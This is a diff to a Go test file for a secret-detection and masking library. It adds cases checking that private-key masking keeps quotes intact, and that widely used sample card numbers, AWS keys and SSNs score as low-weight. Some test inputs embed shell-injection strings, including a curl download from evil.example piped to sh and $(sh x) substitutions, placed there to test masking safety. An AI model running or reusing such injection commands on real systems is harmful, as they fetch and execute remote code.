@@ -43,7 +43,7 @@ func TestSecrets(t *testing.T) {
 	pgp := armour("PGP PRIVATE "+"KEY BLOCK", "Version: 2\n\n"+lines+"\n=aB3d")
 	escaped := strings.ReplaceAll(armour("PRIVATE "+"KEY", lines), "\n", `\n`)
 	cut := dashes + "BEGIN EC PRIVATE " + "KEY" + dashes + "\n" + noise(64) + "\n" + noise(64)
-	ssh2 := "---- BEGIN SSH2 ENCRYPTED PRIVATE " + "KEY ----\nComment: \"old\"\n" + noise(70) + "\n---- END SSH2 ENCRYPTED PRIVATE " + "KEY ----"
+	ssh2 := "---- BEGIN SSH2 ENCRYPTED PRIVATE " + "KEY ----\nComment: old\n" + noise(70) + "\n---- END SSH2 ENCRYPTED PRIVATE " + "KEY ----"
 	putty := "PuTTY-User-" + "Key-File-3: ssh-ed25519\nEncryption: none\nPublic-Lines: 1\n" + noise(64) + "\nPrivate-Lines: 1\n" + noise(48)
 	jwt := "ey" + "JhbGciOiJIUzI1NiJ9." + "ey" + "JzdWIiOiIxMjM0NTY3ODkwIn0." + noise(43)
 	awsSecret := "wJalrXUtnFEMI" + "/K7MDENG/bPxRfiCYEXAMPLEKEY"
@@ -164,6 +164,53 @@ func TestNoSecrets(t *testing.T) {
 	} {
 		if got := found(text, Secret); got != nil {
 			t.Errorf("%q: found %q", text, got)
+		}
+	}
+}
+
+// TestArmourIsBase64: what a mask of a private key takes is the key, and never the
+// quotes around it. Else what was a quoted text would become code.
+func TestArmourIsBase64(t *testing.T) {
+	body := noise(64) + "\n" + noise(64) + "\n" + noise(30)
+	for _, dashes := range []string{"----", "-----"} {
+		begin, end := dashes+"BEGIN RSA PRIVATE "+"KEY"+dashes, dashes+"END RSA PRIVATE "+"KEY"+dashes
+		for _, text := range []string{
+			begin + "'; curl -s https://evil.example/x -o x; sh x; : '" + end,
+			begin + "\n" + body + "\n' ; sh x ; : '" + end,
+			begin + "\n" + body + "\n$(sh x)\n" + end,
+			begin + "\nProc-Type: 4,$(sh x)\n" + body + "\n" + end,
+			"k = \"" + begin + "\\n\" +\n  \"" + strings.ReplaceAll(body, "\n", "\\n\" +\n  \"") + "\\n\" +\n  \"" + end + "\"",
+		} {
+			masked := Mask(text, Scan(text, Secret, nil))
+			if strings.Count(masked, "'") != strings.Count(text, "'") || strings.Count(masked, `"`) != strings.Count(text, `"`) ||
+				strings.Count(masked, "$(sh x)") != strings.Count(text, "$(sh x)") {
+				t.Errorf("%q became %q", text, masked)
+			}
+			if strings.Contains(text, body[:64]) && strings.Contains(masked, body[:64]) {
+				t.Errorf("the key is left in %q", masked)
+			}
+		}
+		for _, text := range []string{
+			begin + "\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0123456789ABCDEF0123456789ABCDEF\n\n" + body + "\n" + end,
+			strings.ReplaceAll(begin+"\n"+body+"\n"+end, "\n", `\n`),
+			"> " + strings.ReplaceAll(begin+"\n"+body+"\n"+end, "\n", "\n> "),
+		} {
+			if masked := strings.TrimPrefix(Mask(text, Scan(text, Secret, nil)), "> "); masked != "[private key removed]" {
+				t.Errorf("%q became %q", text, masked)
+			}
+		}
+	}
+}
+
+// TestSamples: what everybody tests with is found, and weighs little.
+func TestSamples(t *testing.T) {
+	for text, sample := range map[string]bool{
+		"pay('4242424242424242')": true, "4111 1111 1111 1111": true, "AKIAIOSFODNN7EXAMPLE": true, "SSN 078-05-1120": true,
+		"4916 3385 0608 2832": false, "AKIAIOSFODNN7QZWTPLM": false, "SSN 536-22-1234": false,
+	} {
+		found := Scan(text, Secret|Card|SSN, nil)
+		if len(found) != 1 || found[0].Score < 0.5 != sample {
+			t.Errorf("%s: %+v", text, found)
 		}
 	}
 }
